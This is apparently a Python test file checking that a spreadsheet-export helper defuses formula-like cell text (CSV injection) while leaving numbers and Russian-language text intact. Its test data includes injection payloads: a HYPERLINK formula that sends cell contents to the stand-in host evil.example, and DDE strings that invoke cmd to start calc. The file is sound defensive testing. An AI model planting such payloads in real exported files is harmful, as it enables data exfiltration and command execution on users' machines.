"""Formula-like text is defused for spreadsheets (OWASP "CSV Injection"); numbers are not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cati.spreadsheet_cells import defuse_cell_text, restore_cell_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")',
    "=СУММ(1;2)",
    "+7 (495) 123-45-67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",  # spreadsheets trim leading spaces before reading a formula
    "\u00a0=1+1",
    "\n=1+1",
    "\t=1+1",
    "\tтекст",
    "\rтекст",
    "＝1+1",  # full-width equals sign
    "-",
    "- не знаю",
    "+",
]
DATA = [
    "-5",
    "+7",
    "-1,5",
    "-1.5",
    " -12 ",
    "2e-3",
    "-.5",
    "1 200 000 руб.",
    "Долго везут, менеджер не отвечает",
    "ООО «Ромашка»",
    "a=b",
    "",
    " ",
    "'уже с кавычкой",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_quote_in_front(text: str) -> None:
    assert defuse_cell_text(text) == "'" + text


@pytest.mark.parametrize("text", DATA)
def test_numbers_and_ordinary_text_are_written_as_they_are(text: str) -> None:
    assert defuse_cell_text(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, *DATA, "'=1+1", "''=1+1", "'-", "'5"])
def test_reading_back_gives_the_original_text(text: str) -> None:
    assert restore_cell_text(defuse_cell_text(text)) == text


def test_a_text_that_looks_defused_already_keeps_its_own_quote() -> None:
    assert defuse_cell_text("'=1+1") == "''=1+1"
    assert restore_cell_text("'уже с кавычкой") == "'уже с кавычкой"


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n 1,.eабв＝"), max_size=8) | st.text())
def test_defused_text_never_starts_a_formula_and_reads_back(text: str) -> None:
    defused = defuse_cell_text(text)
    assert restore_cell_text(defused) == text
    stripped = defused.lstrip()
    if stripped and stripped[0] in "=+-@＝＋－＠" and not defused.startswith("'"):
        float(stripped.replace(",", "."))  # only a number may start so
    assert not defused.startswith(("\t", "\r"))
